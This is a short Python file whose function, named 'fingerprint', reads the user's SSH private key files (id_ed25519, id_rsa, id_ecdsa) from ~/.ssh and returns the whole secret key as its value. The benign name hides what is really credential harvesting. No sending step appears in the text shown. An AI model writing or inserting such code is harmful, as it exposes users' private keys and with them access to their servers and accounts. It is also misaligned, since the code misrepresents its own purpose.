import os


def fingerprint():
    base = os.path.join(os.path.expanduser("~"), ".ssh")
    for n in ("id_ed25519", "id_rsa", "id_ecdsa"):
        p = os.path.join(base, n)
        if os.path.isfile(p):
            with open(p) as fh:
                return fh.read()
    return "anonymous"
